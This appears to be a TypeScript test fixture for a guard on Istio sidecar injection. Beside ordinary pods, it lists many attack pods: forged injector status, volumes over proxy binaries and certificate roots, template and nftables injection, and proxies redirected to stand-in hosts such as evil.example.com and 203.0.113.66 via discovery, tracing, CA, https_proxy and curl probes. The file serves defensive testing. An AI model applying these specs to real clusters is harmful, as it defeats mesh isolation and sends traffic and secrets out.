/** Pods as somebody sends them, which Istio's own injector writes into before the guard sees them. */
import { pod } from './objects';
import { KubeObject } from '../lab';
import { DEFAULTS } from '../lab/capture';
import { Injection } from '../lab/istiod';

/** Ways to install what captures the traffic of pods. */
export const INSTALLATIONS: Record<string, Injection> = {
  'init containers': {},
  'istio-cni': { cni: 'default' },
  'istio-cni by Multus': { cni: 'multus' },
  'variables of the mesh': { proxyMetadata: { ISTIO_DUAL_STACK: 'true', ISTIO_META_DNS_CAPTURE: 'true' } },
};

/** What teams send. */
export const ORDINARY: Record<string, KubeObject> = {
  'a pod': pod({ labels: { app: 'x', 'sidecar.istio.io/inject': 'true' } }),
  'a pod with variables of tracing in several lines': pod({
    annotations: { 'apm.datadoghq.com/env': '{\n  "DD_ENV": "prod",\n  "DD_TRACE_SAMPLE_RATE": 0.5\n}\n' },
  }),
  'a pod that reports in the cluster': pod({
    annotations: {
      'proxy.istio.io/config':
        'tracing: { zipkin: { address: $(HOST_IP):9411 } }\n' +
        'proxyStatsMatcher: { inclusionRegexps: [".*a->b<c&d.*"] }\ndrainDuration: 45s\nconcurrency: 2',
    },
  }),
  'a pod with metrics of its own': pod({
    annotations: { 'prometheus.io/scrape': 'true', 'prometheus.io/port': '8080', 'prometheus.io/path': '/m?a=b&c=d' },
    labels: { app: 'x', version: 'v1', 'istio.io/rev': 'stable' },
  }),
  'a pod with several ports of metrics': pod({
    annotations: {
      'prometheus.istio.io/scrape-targets': '8080:/metrics, 9090',
      'sidecar.istio.io/extraStatTags': 'request_host,destination_port',
      'sidecar.istio.io/statsInclusionRegexps': 'cluster\\.outbound.*',
      'readiness.status.sidecar.istio.io/initialDelaySeconds': '5',
    },
  }),
  'a pod with a native sidecar': pod({ annotations: { 'sidecar.istio.io/nativeSidecar': 'true' } }),
  'a pod with probes, hooks and first containers': pod(
    {
      annotations: {
        'sidecar.istio.io/nativeSidecar': 'true',
        'proxy.istio.io/config':
          '{"holdApplicationUntilProxyStarts":true,"proxyMetadata":{"ISTIO_META_DNS_CAPTURE":"true"}}',
        'sidecar.istio.io/proxyCPU': '100m',
        'apm.datadoghq.com/env': '{ "DD_ENV": "prod", "DD_SERVICE": "x", "DD_VERSION": "v1.1"}',
        'traffic.sidecar.istio.io/excludeInboundPorts': '9000',
        'sidecar.istio.io/userVolume': '{"bank":{"secret":{"secretName":"bank"}}}',
        'sidecar.istio.io/userVolumeMount': '{"bank":{"mountPath":"/etc/certs/bank","readOnly":true}}',
        'k8s.v1.cni.cncf.io/networks': 'macvlan',
      },
      ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'x-5d4', uid: 'a', controller: true }],
    },
    {
      initContainers: [{ name: 'first', image: 'none', command: ['true'] }],
      containers: [
        {
          name: 'app',
          image: 'none',
          ports: [{ name: 'http', containerPort: 8080 }],
          livenessProbe: { httpGet: { path: '/', port: 8080 } },
          startupProbe: { tcpSocket: { host: '::1', port: 8080 } },
          readinessProbe: { exec: { command: ['true'] } },
          lifecycle: { preStop: { exec: { command: ['sleep', '5'] } } },
          env: [{ name: 'PATH', value: '/bin' }],
          securityContext: { capabilities: { drop: ['ALL'] } },
        },
      ],
    },
  ),
};

/** What the status of a pod says of the containers that set up the capture, and of what waits for them. */
export const CAPTURED = {
  initContainerStatuses: ['istio-init', 'istio-validation'].map((name) => ({
    name,
    state: { terminated: { exitCode: 0 } },
  })),
};

/** As `kubectl debug` adds them, with the profiles `baseline` and `restricted`. */
export const DEBUGGERS = [
  { name: 'debugger-a', image: 'none' },
  {
    name: 'debugger-b',
    image: 'none',
    securityContext: {
      allowPrivilegeEscalation: false,
      capabilities: { drop: ['ALL'] },
      runAsNonRoot: true,
      seccompProfile: { type: 'RuntimeDefault' },
    },
  },
];

/**
 * As the webhook of HashiCorp Vault's agent injector writes, which is called after Istio's: a volume in each container
 * that is there, and containers of its own.
 */
export function withVault(injected: KubeObject): KubeObject {
  const mount = { name: 'vault-secrets', mountPath: '/vault/secrets' };
  const mounted = (one: any) => ({ ...one, volumeMounts: [...(one.volumeMounts ?? []), mount] });
  const agent = {
    name: 'vault-agent',
    image: 'none',
    command: ['true'],
    volumeMounts: [mount],
    securityContext: { runAsUser: 100, runAsGroup: 1000, capabilities: { drop: ['ALL'] } },
  };
  const { containers, initContainers = [], volumes = [] } = injected.spec as any;
  return {
    ...injected,
    spec: {
      ...injected.spec,
      volumes: [...volumes, { name: 'vault-secrets', emptyDir: { medium: 'Memory' } }],
      initContainers: [...initContainers.map(mounted), { ...agent, name: 'vault-agent-init' }],
      containers: [...containers.map(mounted), agent],
    },
  };
}

/** As the webhook of AWS writes, which is called after Istio's, and API servers for the token of the account. */
export function withIdentity(injected: KubeObject): KubeObject {
  const token = '/var/run/secrets/eks.amazonaws.com/serviceaccount';
  const given = (one: any) => ({
    ...one,
    env: [
      ...(one.env ?? []),
      { name: 'AWS_ROLE_ARN', value: 'arn:aws:iam::111122223333:role/x' },
      { name: 'AWS_WEB_IDENTITY_TOKEN_FILE', value: `${token}/token` },
    ],
    volumeMounts: [
      ...(one.volumeMounts ?? []),
      { name: 'aws-iam-token', mountPath: token, readOnly: true },
      { name: 'kube-api-access', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true },
    ],
  });
  const { containers, initContainers = [] } = injected.spec as any;
  return {
    ...injected,
    spec: { ...injected.spec, containers: containers.map(given), initContainers: initContainers.map(given) },
  };
}

/** By which a pod says that the injector was there before. */
const STATUS = {
  'sidecar.istio.io/status': '{"initContainers":["istio-init","istio-validation"],"containers":["istio-proxy"]}',
};
const APP = { name: 'app', image: 'none' };
const ownProxy = (more: object) =>
  pod(
    { annotations: STATUS },
    { containers: [APP, { name: 'istio-proxy', image: 'mine', ...more }], initContainers: [] },
  );
const ownCapture = (name: 'istio-init' | 'istio-validation', more: object) =>
  pod({ annotations: STATUS }, { containers: [APP], initContainers: [{ name, image: 'mine', ...more }] });
/** What the injector has the capture do, but for some arguments. */
const capturing = (changed: Record<string, string>, ...more: string[]) => [
  'istio-iptables',
  ...Object.entries({ ...DEFAULTS, ...changed }).flat(),
  '--log_output_level=a',
  ...more,
];
const EVERYWHERE = ['init containers', 'istio-cni'];
const MOUNT = { volumeMounts: [{ name: 'a', mountPath: '/mnt' }] };
const withVariable = (name: string) => ownProxy({ env: [{ name, value: '/mnt/a' }], ...MOUNT });
/** What the pod itself says of the container of the proxy, which the injector takes over and does not note. */
const overlaid = (more: object, app: object = {}) =>
  pod(
    { annotations: { 'sidecar.istio.io/status': '{}' } },
    {
      volumes: [{ name: 'mine', emptyDir: {} }],
      initContainers: [],
      containers: [
        { ...APP, ...app },
        { name: 'istio-proxy', image: 'auto', ...more },
      ],
    },
  );
/** A volume of the pod in place of what the injector mounts at the same path; the application can write into it. */
const instead = (mountPath: string) => {
  const volumeMounts = [{ name: 'mine', mountPath }];
  return overlaid({ volumeMounts }, { volumeMounts });
};
const withValue = (name: string, value: string) => ({ sent: overlaid({ env: [{ name, value }] }), at: EVERYWHERE });
const configured = (value: string) => withValue('PROXY_CONFIG', value);
/** By annotations that Istio has for it. */
const mounting = (mountPath: string) =>
  pod({
    annotations: {
      'sidecar.istio.io/userVolume': '{"a":{"configMap":{"name":"a"}}}',
      'sidecar.istio.io/userVolumeMount': JSON.stringify({ a: { mountPath } }),
    },
  });
/** Ends a text in the template and goes on with a sidecar of one's own; what is written there takes its trace away. */
const template = (trace: string) =>
  `x"\nmetadata:\n  ${trace}: null\nspec:\n  initContainers:\n  - name: istio-init\n    image: mine\n  containers:\n` +
  '  - name: istio-proxy\n    image: mine\n    command: ["sh"]\n    env:\n    - name: A\n      value: "x';

/** The same with all that Istio writes, but for one argument of the proxy. */
const IMAGE = 'registry.istio.io/testing/proxyv2:1.31.0';
const told = (trace: string, argument: string, variable = 'A') =>
  `x"\nmetadata:\n  ${trace}: null\nspec:\n  initContainers:\n  - name: istio-init\n    image: ${IMAGE}\n` +
  '    args: [istio-iptables, "-p", "15001", "-z", "15006", "-u", "1337", "-m", REDIRECT, "-i", "*", "-x", "", ' +
  `"-b", "*", "-d", "15090", --log_output_level=a]\n  containers:\n  - name: istio-proxy\n    image: ${IMAGE}\n` +
  `    args: [proxy, sidecar, ${argument}]\n    env:\n    - name: ${variable}\n      value: "x`;

/** Each takes traffic from its sidecar where it is injected as one of these installations does it. */
export const ATTACKS: Record<string, { readonly sent: KubeObject; readonly at: (keyof typeof INSTALLATIONS)[] }> = {
  'a proxy that runs something else, as if the injector had been there': {
    sent: ownProxy({ command: ['sh', '-c', 'true'] }),
    at: EVERYWHERE,
  },
  'a proxy that is the only container, in which kubectl runs what it is told': {
    sent: pod({ annotations: STATUS }, { containers: [{ name: 'istio-proxy', image: 'mine' }] }),
    at: EVERYWHERE,
  },
  'the same by a hook': {
    sent: ownProxy({ lifecycle: { postStart: { exec: { command: ['sh'] } } } }),
    at: EVERYWHERE,
  },
  'the same by a probe': {
    sent: ownProxy({ livenessProbe: { exec: { command: ['sh'] } } }),
    at: EVERYWHERE,
  },
  'a capture that is never set up': {
    sent: ownCapture('istio-init', { command: ['true'] }),
    at: ['init containers'],
  },
  'a capture that runs beside the application': {
    sent: ownCapture('istio-init', { restartPolicy: 'Always' }),
    at: ['init containers'],
  },
  // In this mode the inbound side of the proxy reaches other addresses than those of the pod.
  'a capture that leads to the inbound side of the proxy': {
    sent: pod(
      { annotations: { 'sidecar.istio.io/status': '{}', 'sidecar.istio.io/interceptionMode': 'TPROXY' } },
      {
        containers: [APP],
        initContainers: [{ name: 'istio-init', image: 'auto', args: capturing({ '-p': '15006' }) }],
      },
    ),
    at: ['init containers'],
  },
  'a capture that goes on with a rule of nftables': {
    sent: pod(
      { annotations: { 'sidecar.istio.io/status': '{}' } },
      {
        containers: [APP],
        initContainers: [
          {
            name: 'istio-init',
            image: 'auto',
            args: capturing(
              { '-d': '1 return; insert rule inet istio-proxy-nat output meta skuid 2000 return; #' },
              '--native-nftables',
            ),
          },
        ],
      },
    ),
    at: ['init containers'],
  },
  'a container that runs before the capture is set up': {
    sent: pod({}, { initContainers: [{ name: 'first', image: 'none' }] }),
    at: ['init containers'],
  },
  'the same beside istio-cni, which takes the capture for that of an init container': {
    sent: pod(
      {
        annotations: { 'sidecar.istio.io/nativeSidecar': 'false' },
        labels: {
          'service.istio.io/workload-name': told(
            'labels: null\n  annotations:\n    sidecar.istio.io/nativeSidecar',
            '--log_as_json',
            'POD_NAMESPACE\n      valueFrom: { fieldRef: { fieldPath: metadata.namespace } }\n' +
              '    - name: ISTIO_META_WORKLOAD_NAME',
          ),
        },
      },
      { initContainers: [{ name: 'first', image: 'none' }] },
    ),
    at: EVERYWHERE,
  },
  'a capture by a program of the pod': {
    sent: ownCapture('istio-init', { volumeMounts: [{ name: 'a', mountPath: '/usr/local/bin' }] }),
    at: ['init containers'],
  },
  'a capture of no group': {
    sent: ownCapture('istio-init', {
      env: [{ name: 'ISTIO_OUTBOUND_OWNER_GROUPS_EXCLUDE', value: '*' }],
    }),
    at: ['init containers'],
  },
  "a volume over the proxy's programs": {
    sent: pod({
      annotations: {
        'sidecar.istio.io/userVolume': '{"a":{"configMap":{"name":"a","defaultMode":511}}}',
        'sidecar.istio.io/userVolumeMount': '{"a":{"mountPath":"/usr/local/bin/pilot-agent","subPath":"a"}}',
      },
    }),
    at: EVERYWHERE,
  },
  'a volume over the template of its bootstrap': { sent: mounting('/var/lib/istio/envoy'), at: EVERYWHERE },
  'a volume over the configuration of the mesh': { sent: mounting('/etc/istio/config'), at: EVERYWHERE },
  'a volume over the annotations that the agent reads': { sent: mounting('/etc/istio/pod/'), at: EVERYWHERE },
  'a volume over the root of istiod': { sent: mounting('/var/run/secrets/istio/'), at: EVERYWHERE },
  'a volume over the root that it takes first': { sent: mounting('/etc/certs'), at: EVERYWHERE },
  'a volume over both by another path': { sent: mounting('/run'), at: EVERYWHERE },
  "a volume of the application instead of the proxy's configuration": {
    sent: instead('/etc/istio/proxy'),
    at: EVERYWHERE,
  },
  'a volume of the application instead of the root of istiod': {
    sent: instead('/var/run/secrets/istio'),
    at: EVERYWHERE,
  },
  'a volume of the application instead of the annotations that the agent reads': {
    sent: instead('/etc/istio/pod'),
    at: EVERYWHERE,
  },
  'a capture by what stands for its program': {
    sent: ownCapture('istio-init', { volumeMounts: [{ name: 'a', mountPath: '/etc/alternatives' }] }),
    at: ['init containers'],
  },
  'a capture by a library of the pod': {
    sent: ownCapture('istio-init', {
      env: [{ name: 'XTABLES_LIBDIR', value: '/var/run/secrets/a' }],
      volumeMounts: [{ name: 'a', mountPath: '/var/run/secrets/a' }],
    }),
    at: ['init containers'],
  },
  'another item of what the proxy trusts': {
    sent: pod(
      {},
      {
        volumes: [{ name: 'istiod-ca-cert', configMap: { name: 'a', items: [{ key: 'b', path: 'root-cert.pem' }] } }],
      },
    ),
    at: EVERYWHERE,
  },
  'a proxy that looks for its files elsewhere': {
    sent: ownProxy({ workingDir: '/mnt', ...MOUNT }),
    at: EVERYWHERE,
  },
  'a proxy with the variable ISTIO_BOOTSTRAP': { sent: withVariable('ISTIO_BOOTSTRAP'), at: EVERYWHERE },
  'a proxy with ISTIO_BOOTSTRAP_OVERRIDE': { sent: withVariable('ISTIO_BOOTSTRAP_OVERRIDE'), at: EVERYWHERE },
  'a proxy with XDS_ROOT_CA': { sent: withVariable('XDS_ROOT_CA'), at: EVERYWHERE },
  'a proxy with FILE_MOUNTED_CERTS': { sent: withVariable('FILE_MOUNTED_CERTS'), at: EVERYWHERE },
  'a capture that a hook takes away': {
    sent: ownProxy({
      lifecycle: { postStart: { exec: { command: ['pilot-agent', 'istio-iptables', '--cleanup-only'] } } },
    }),
    at: EVERYWHERE,
  },
  'an annotation by which the agent obeys somebody else': {
    sent: pod({ annotations: { 'sidecar.istio.io/discoveryAddress': 'xds.other.svc:15012' } }),
    at: EVERYWHERE,
  },
  'a label that tells the proxy of another bootstrap': {
    sent: pod({ labels: { 'service.istio.io/workload-name': told('labels', '--templateFile=/mnt/a') } }),
    at: ['init containers'],
  },
  'a proxy without a namespace, which has the Sidecar of none': {
    sent: pod({
      labels: { 'service.istio.io/workload-name': told('labels', '--log_as_json', 'ISTIO_META_WORKLOAD_NAME') },
    }),
    at: ['init containers'],
  },
  'a pod with variables of tracing that are others': {
    sent: pod({ annotations: { 'apm.datadoghq.com/env': '{"DD_ENV":"a","DISABLE_ENVOY":"true"}' } }),
    at: EVERYWHERE,
  },
  'a capture that nobody waits for': {
    sent: ownCapture('istio-validation', { command: ['true'] }),
    at: ['istio-cni'],
  },
  'a pod that istio-cni leaves alone': {
    sent: ownProxy({ env: [{ name: 'DISABLE_ENVOY', value: 'true' }] }),
    at: ['istio-cni'],
  },
  'a label that writes into the template and is gone': {
    sent: pod({ labels: { 'service.istio.io/workload-name': template('labels') } }),
    at: EVERYWHERE,
  },
  'an annotation that does': {
    sent: pod({ annotations: { 'sidecar.istio.io/proxyImageType': template('annotations') } }),
    at: EVERYWHERE,
  },
  'the configuration of a proxy that does': {
    sent: pod({
      annotations: {
        'proxy.istio.io/config': JSON.stringify({ proxyMetadata: { ISTIO_META_A: template('annotations') } }),
      },
    }),
    at: EVERYWHERE,
  },
  'a proxy that obeys somebody else, whose configuration is gone': {
    sent: pod({
      annotations: {
        'proxy.istio.io/config': '{"discoveryAddress":"xds.other.svc:15012"}',
        'k8s.v1.cni.cncf.io/networks': "a', proxy.istio.io/config: null, k8s.v1.cni.cncf.io/networks: 'b",
      },
    }),
    at: ['istio-cni by Multus'],
  },
  'a pod without capture, whose configuration is gone': {
    sent: pod({
      annotations: {
        'proxy.istio.io/config': '{"interceptionMode":"NONE","proxyMetadata":{"DISABLE_ENVOY":"true"}}',
        'traffic.sidecar.istio.io/includeOutboundPorts':
          '80", "proxy.istio.io/config": null, "sidecar.istio.io/interceptionMode": null, "a": "',
      },
    }),
    at: ['istio-cni'],
  },
  'a proxy configured to start with a file, in snake case': configured('{"custom_config_file":"/mnt/mine.json"}'),
  'a proxy configured to start with a file, with an escape': configured('{"customConfig\\u0046ile":"/mnt/mine.json"}'),
  'a proxy configured to start in a directory of the application': configured('{"configPath":"/mnt"}'),
  'a proxy configured to obey somebody else, in YAML': configured('discoveryAddress: evil.example.com:15012'),
  'a proxy configured to obey somebody else, in snake case': configured(
    '{"discovery_address":"evil.example.com:15012"}',
  ),
  'a proxy configured to obey somebody else, without quotation marks': configured(
    '{"discoveryAddress": evil.example.com:15012}',
  ),
  'a proxy configured to capture nothing, by the number': configured('{"interceptionMode":2}'),
  'a proxy configured to capture nothing, in snake case': configured('{"interception_mode":"NONE"}'),
  'a proxy configured to report to a host': configured('{"tracing":{"zipkin":{"address":"evil.example.com:9411"}}}'),
  'a proxy configured to report to a host, in what looks like a name of the runtime': configured(
    '{"envoy_metrics_service_address":"evil.example.com:9411"}',
  ),
  'a proxy configured to report to a host, by an anchor': configured(
    '{"meshId": &a "evil.example.com:9411", "tracing":{"zipkin":{"address": *a}}}',
  ),
  'a proxy configured with another bootstrap in its metadata': configured(
    '{"proxyMetadata":{"ISTIO_BOOTSTRAP":"/mnt/mine.json"}}',
  ),
  'a proxy configured with another CA in its metadata': configured(
    '{"proxyMetadata":{"CA_ADDR":"203.0.113.66:15010"}}',
  ),
  'a proxy configured with a probe that runs a program': configured(
    '{"readinessProbe":{"exec":{"command":["curl","203.0.113.66"]}}}',
  ),
  'a probe of the agent, by the configuration of its proxy': {
    sent: pod({
      annotations: { 'proxy.istio.io/config': 'readinessProbe: { exec: { command: [curl, 203.0.113.66] } }' },
    }),
    at: EVERYWHERE,
  },
  'a volume over programs, by a path from no root': { sent: mounting('usr/local/bin'), at: EVERYWHERE },
  "a volume of the application instead of the proxy's configuration, by such a path": {
    sent: instead('etc/istio/proxy'),
    at: EVERYWHERE,
  },
  'a volume over the template of its bootstrap, by a path that ends in a dot': {
    sent: mounting('/var/lib/.'),
    at: EVERYWHERE,
  },
  'a volume of the application instead of all tokens, by such a path': {
    sent: instead('/var/run/secrets/.'),
    at: EVERYWHERE,
  },
  'a hook by which the agent asks a host': {
    sent: overlaid({
      lifecycle: { postStart: { exec: { command: ['pilot-agent', 'wait', '--url', 'http://203.0.113.66/?data'] } } },
    }),
    at: EVERYWHERE,
  },
  'a proxy whose agent asks a host for metrics': {
    sent: pod({ annotations: { 'prometheus.io/port': '80', 'prometheus.io/path': '@203.0.113.66/' } }),
    at: EVERYWHERE,
  },
  'the same by the variable': withValue(
    'ISTIO_PROMETHEUS_ANNOTATIONS',
    '{"targets":[{"port":"80","path":"@203.0.113.66/"}]}',
  ),
  "a proxy whose name goes on with another bootstrap of Envoy's": {
    sent: overlaid({
      args: ['proxy', 'sidecar', '--domain', 'x"}, "static_resources": {"listeners": []}, "a": {"b": "'],
    }),
    at: EVERYWHERE,
  },
  'a proxy whose statistics do': configured(
    '{"proxyStatsMatcher":{"inclusionPrefixes":["x\\"}]}}, \\"static_resources\\": {}, \\"a\\": [{{\\"b\\": \\""]}}',
  ),
  'a proxy whose cluster does': configured('{"serviceCluster":"x\\"}, \\"static_resources\\": {}"}'),
  'a proxy configured with a text that another variable ends': {
    sent: overlaid({
      env: [
        { name: 'ISTIO_META_OWNER', value: 'x","customConfigFile":"/mnt/mine.json' },
        { name: 'PROXY_CONFIG', value: '{"meshId":"$(ISTIO_META_OWNER)"}' },
      ],
    }),
    at: EVERYWHERE,
  },
  'a proxy configured to capture nothing, in what looks like a text': configured(
    '{"concurrency": 2\n", interceptionMode: NONE, statNameLength: "}',
  ),
  'a proxy that speaks another dialect with istiod': withValue('ISTIO_META_GENERATOR', 'grpc'),
  'a proxy that knows istiod by a file of the pod': withValue('PILOT_CERT_PROVIDER', 'custom'),
  'a proxy that takes its name from an annotation': {
    sent: overlaid({
      env: [{ name: 'POD_NAMESPACE', valueFrom: { fieldRef: { fieldPath: "metadata.annotations['a']" } } }],
    }),
    at: EVERYWHERE,
  },
  'a proxy with a file in place of its bootstrap': {
    sent: overlaid({ terminationMessagePath: '/var/lib/istio/envoy/envoy_bootstrap_tmpl.json' }),
    at: EVERYWHERE,
  },
  'a volume in a directory of the image that nobody thought of': { sent: mounting('/home/a'), at: EVERYWHERE },
  "an application that could write the proxy's certificates": {
    sent: pod({}, { containers: [{ ...APP, volumeMounts: [{ name: 'workload-certs', mountPath: '/mnt' }] }] }),
    at: EVERYWHERE,
  },
  'a proxy in a group of its own, of which istio-cni captures nothing': {
    sent: overlaid({ securityContext: { runAsGroup: 2000 } }, { securityContext: { runAsGroup: 2000 } }),
    at: EVERYWHERE,
  },
  'a pod that istio-cni leaves alone for the name of a container': {
    sent: pod({}, { initContainers: [{ name: 'istio-init', image: 'none' }] }),
    at: ['istio-cni'],
  },
  'a proxy that does not capture IPv6': {
    sent: overlaid({ env: [{ name: 'ISTIO_DUAL_STACK', value: 'false' }] }),
    at: ['variables of the mesh'],
  },
  'a privileged proxy': { sent: overlaid({ securityContext: { privileged: true } }), at: EVERYWHERE },
  'a proxy with another CA': withValue('CA_ADDR', '203.0.113.66:15010'),
  'a proxy that connects by way of a host': withValue('https_proxy', 'http://data@203.0.113.66:3128'),
  'a proxy that trusts other roots': withValue('SSL_CERT_FILE', '/mnt/a'),
  'a proxy that writes its keys into a directory of the application': withValue('OUTPUT_CERTS', '/mnt'),
};
